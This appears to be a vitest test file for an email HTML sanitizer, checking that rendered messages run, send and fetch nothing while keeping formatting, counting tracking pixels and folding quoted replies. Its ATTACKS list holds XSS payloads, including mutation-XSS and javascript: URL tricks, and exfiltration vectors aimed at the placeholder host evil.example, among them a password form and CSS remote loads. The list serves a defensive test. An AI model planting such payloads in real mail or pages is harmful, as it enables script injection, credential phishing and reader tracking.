import { describe, expect, it } from "vitest";

import { build, type Built } from "./mailhtml";

function shown(html: string, images = false): { html: string; built: Built; document: Document } {
  const target = document.implementation.createHTMLDocument("");
  const built = build(target, html, (text) => new DOMParser().parseFromString(text, "text/html"), { images, unfold: "more" });
  return { html: target.body.innerHTML, built, document: target };
}

/** Whatever would run, send or leave. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
  "<form action=https://evil.example><input name=password><button>Go</button></form>",
  "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>x</a><a href='data:text/html,x'>x</a><a href='vbscript:x'>x</a>",
  "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=https://evil.example/x>",
  "<template><img src=x onerror=alert(1)></template><p onclick=alert(1) onmouseover=alert(1)>x</p>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
  "<video src=https://evil.example/v autoplay><source src=https://evil.example/v></video><audio src=https://evil.example/a></audio>",
  "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img srcset='https://evil.example/1 1x'><img src=//evil.example/x>",
  "<div style=\"background:url(https://evil.example/x);background-image:image-set('https://evil.example/y' 1x)\">x</div>",
  "<style>@import 'https://evil.example/x.css';a{background:url(https://evil.example/y)}@font-face{src:url(https://evil.example/f)}</style>x",
  "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
  "<a ping=https://evil.example href=https://ok.example>x</a><input type=image src=https://evil.example/i>",
];

describe("HTML of messages", () => {
  it("runs nothing, sends nothing, fetches nothing", () => {
    for (const attack of ATTACKS) {
      const { document: target } = shown(attack);
      for (const element of target.querySelectorAll("*")) {
        expect(["script", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "base", "link", "template", "video", "audio", "source"], attack).not.toContain(element.localName);
        for (const { name, value } of element.attributes) {
          expect(name, attack).not.toMatch(/^on|^srcset$|^ping$|^action$|^background$|^formaction$/);
          if (name === "href") expect(value, attack).toMatch(/^(?:https?:|mailto:|tel:)/);
          if (name === "src") expect(value, attack).toMatch(/^data:image\/(?!svg)/);
          if (name === "style") expect(value, attack).not.toContain("evil.example");
        }
      }
      for (const style of target.querySelectorAll("style")) expect(style.textContent, attack).not.toContain("evil.example");
    }
  });

  it("keeps what makes it look as it was written", () => {
    const { html } = shown('<center><font color="#ff0000">Hi</font> <b>there</b></center><table bgcolor="#eee" cellpadding="4"><tr><td colspan="2" style="color:red">x</td></tr></table>');
    expect(html).toContain('<font color="#ff0000">Hi</font>');
    expect(html).toContain('<td colspan="2" style="color:red">x</td>');
  });

  it("unfolds elements that nobody knows to what is within", () => {
    expect(shown("<o:p>text</o:p><blink>more</blink>").html).toBe("textmore");
  });

  it("lets links lead away only in a page of their own, and says where", () => {
    const link = shown("<a href='https://a.example/x' onclick='x()'>go</a>").document.querySelector("a")!;
    expect([link.target, link.rel, link.title]).toEqual(["_blank", "noopener noreferrer", "https://a.example/x"]);
  });

  it("counts images and names trackers", () => {
    const html = '<img src="https://a.example/head.png" alt="Head" width="600"><img src="https://t.example/o.gif" width="1" height="1"><img src="http://u.example/p" style="width:1px"><img src="cid:logo@x" alt="logo">';
    const { built } = shown(html);
    expect([built.remote, built.trackers, built.inline.map((one) => one.contentId)]).toEqual([1, ["t.example", "u.example"], ["logo@x"]]);
    expect(shown(html, true).document.querySelector("img")!.getAttribute("src")).toBe("https://a.example/head.png");
    expect(shown(html, true).html).not.toContain("t.example");
  });

  it("knows mail that has colours of its own", () => {
    expect(shown("<p>plain</p>").built.coloured).toBe(false);
    expect(shown("<p style='color:#333'>plain</p>").built.coloured).toBe(false);
    expect(shown("<body bgcolor='#f2f2ee'>x</body>").built.coloured).toBe(true);
    expect(shown("<style>.a{background-color:#123}</style>").built.coloured).toBe(true);
  });

  it("folds what repeats the message before", () => {
    const { document: target } = shown('<div>Yes</div><div class="gmail_quote">On … wrote:<blockquote>old</blockquote></div>');
    expect(target.querySelector("details > .gmail_quote")).not.toBeNull();
    expect(shown('<div class="gmail_quote">all of it</div>').document.querySelector("details")).toBeNull();
    expect(shown('<p>a</p><blockquote type="cite">old</blockquote><p>answer below</p>').document.querySelector("details")).toBeNull();
  });

  it("leaves out what is nested without end", () => {
    expect(shown("<div>".repeat(400) + "deep").html).not.toContain("deep");
  });
});
